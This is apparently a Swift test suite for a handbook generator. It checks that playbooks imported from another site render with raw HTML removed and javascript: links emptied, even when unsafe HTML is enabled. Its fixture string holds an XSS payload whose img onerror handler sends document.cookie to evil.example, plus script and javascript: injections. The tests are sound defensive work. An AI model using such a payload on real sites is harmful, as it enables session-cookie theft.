import Foundation
import Testing
@testable import SOPKit

/// A pack's `unsafe_html: true` trusts its own authors, never another site: an imported
/// playbook's steps render with raw HTML left out.
@Suite struct ImportedHTMLTests {
    static let attack = "1. Read the ticket.\n\n<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">\n\n"
        + "<script>alert(1)</script>\n\n[click](javascript:alert(2))\n"

    /// client-target with `unsafe_html: true` and two playbooks with the same raw HTML in their steps:
    /// one written here, one imported (it has provenance).
    func plan() async throws -> (OutputPlan, [Diagnostic], TemporaryFolder) {
        let folder = TemporaryFolder()
        let root = folder.copyPack(TestPaths.fixturePack("client-target"))
        let settings = try String(contentsOf: root.appendingPathComponent("sopgen.yml"), encoding: .utf8)
        let steps = Self.attack.split(separator: "\n", omittingEmptySubsequences: false).map { "  " + $0 }.joined(separator: "\n")
        func playbook(_ id: String, provenance: String) -> String {
            """
            id: \(id)
            title: \(id.capitalized)
            owner: operations-lead
            trigger: A ticket arrives
            input: [ticket text]
            output: A draft
            approval: refunds-and-coupons
            retry: Once
            failure_notification: Post in the ops channel
            kill_switch: operations-lead
            mode: read-only
            steps: |
            \(steps)
            \(provenance)
            """
        }
        folder.write([
            "pack/sopgen.yml": settings + "options:\n  unsafe_html: true\n",
            "pack/playbooks/own.yml": playbook("own", provenance: ""),
            "pack/playbooks/imported.yml": PlaybookImport.header + playbook("imported", provenance: """
                provenance:
                  source_site: site-1
                  export_date: '2026-11-21'
                  first_run:
                    result: pending

                """),
        ])
        let result = await Build.plan(root)
        return (try #require(result.plan, "\(Build.diagnosticsText(result))"), result.diagnostics, folder)
    }

    static let themeScript = "<script src=\"../assets/search.js\" defer></script>"

    @Test func importedStepsNeverRenderRawHTMLEvenWithUnsafeHTML() async throws {
        let (plan, diagnostics, _) = try await plan()
        // The theme's own search script is the one script a page may load.
        let imported = try #require(plan.text("playbooks/imported.html")).replacingOccurrences(of: Self.themeScript, with: "")
        for live in ["<img", "onerror", "<script", "javascript:"] {
            #expect(!imported.contains(live), "\(live) is live in an imported playbook")
        }
        #expect(imported.contains("<!-- raw HTML omitted -->"))
        // The pack's opt-in still holds for its own playbook.
        let own = try #require(plan.text("playbooks/own.html"))
        #expect(own.contains("<img src=x onerror="))
        // And the build says why the imported HTML is missing.
        let warnings = diagnostics.filter { $0.code == .rawHtml }
        #expect(warnings.map(\.location.path) == ["playbooks/imported.yml"])
        #expect(warnings.first?.location.line == 13)
        #expect(warnings.first?.message.hasPrefix("playbook 'imported' came from another site, so the raw HTML") == true)
        // Its javascript: link is emptied too, and said so; the pack's own is kept, unreported.
        let links = diagnostics.filter { $0.code == .unsafeLink }
        #expect(links.map(\.location.path) == ["playbooks/imported.yml"])
        #expect(links.first?.message == "link to 'javascript:alert(2)' in playbook 'imported' leads nowhere: it came from another site, "
                + "and the handbook empties javascript: addresses in imported steps even with options.unsafe_html: true; link to a web page instead")
        #expect(own.contains("href=\"javascript:alert(2)\""))
    }

    /// A manifest naming its source site `null` must not make the playbook local once promote
    /// rewrites the provenance: the value is written quoted and reads back as the text "null".
    @Test func aPlaybookStaysImportedThroughPromotion() async throws {
        for name in ["null", "~", "no", "2026-11-21"] {
            var manifest = BundleFixtures.manifest
            manifest.sourceSite = name
            let target = await Pipeline(packRoot: TestPaths.fixturePack("client-target"), today: TestClock.today).decode().pack
            let data = Data(try BundleFixtures.sealed(BundleFixtures.playbook(["steps": .string(Self.attack)]), manifest: manifest).json.pretty.utf8)
            let imported = try PlaybookImport(pack: target).importBundle(data, site: "harbour", replace: false) { _ in nil }
            let playbook = try #require(PlaybookDecoder.decode(DecodingContext(file: SourceFile(path: imported.path, text: imported.text))))
            let promoted = try PlaybookPromotion.promote(playbook, text: imported.text, to: .staging, result: .pass, by: "null",
                                                         date: "2026-11-22", notes: "no")
            let promotedText = try #require(promoted.text)
            let after = try #require(PlaybookDecoder.decode(DecodingContext(file: SourceFile(path: imported.path, text: promotedText))))
            #expect(after.isImported, "\(name)")
            #expect(after.provenance?.sourceSite == name)
            #expect(after.provenance?.firstRun?.by == "null" && after.provenance?.firstRun?.notes == "no")
        }
    }

    @Test func aBundleWithHTMLImportsAndBuildsWithTheHTMLLeftOut() throws {
        let folder = TemporaryFolder()
        let pack = folder.copyPack(TestPaths.fixturePack("client-target"))
        try Data((try String(contentsOf: pack.appendingPathComponent("sopgen.yml"), encoding: .utf8) + "options:\n  unsafe_html: true\n").utf8)
            .write(to: pack.appendingPathComponent("sopgen.yml"))
        let bundle = folder.url.appendingPathComponent("bundle.json")
        try Data(try BundleFixtures.sealed(BundleFixtures.playbook(["steps": .string(Self.attack)])).json.pretty.utf8).write(to: bundle)
        let imported = try ProcessRun.run(TestPaths.sopgenBinary.path, ["playbook", "import", bundle.path, "--site", "harbour", pack.path])
        #expect(imported.status == 0, "\(imported.standardError)")
        let output = folder.url.appendingPathComponent("site")
        let build = try ProcessRun.run(TestPaths.sopgenBinary.path, ["build", pack.path, "--output", output.path])
        #expect(build.status == 0, "\(build.standardError)")
        let page = try String(contentsOf: output.appendingPathComponent("playbooks/stock-check.html"), encoding: .utf8)
            .replacingOccurrences(of: Self.themeScript, with: "")
        #expect(!page.contains("<img") && !page.contains("<script") && !page.contains("javascript:"))
    }
}
